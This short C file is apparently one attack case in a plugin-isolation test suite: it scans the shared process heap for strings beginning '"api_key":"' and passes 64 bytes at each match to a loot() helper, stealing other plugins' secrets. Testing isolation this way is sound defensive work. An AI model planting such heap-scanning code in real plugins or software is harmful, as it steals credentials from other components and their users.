/* Looks through its heap for the settings of other plugins: their secrets lie there if they run in the same
   process. Nothing but reading is needed. */
#include "../attack.h"

static void attack(void) {
    const char* const end = (const char*)sbrk(0) - 128;
    /* The C++ runtime has 72 KiB at the heap's beginning, so this much lies before everything of ours. */
    for (const char* at = (const char*)malloc(16) - 65536; at < end; ++at)
        if (memcmp(at, "\"api_key\":\"", 11) == 0)
            loot(at, 64);
}
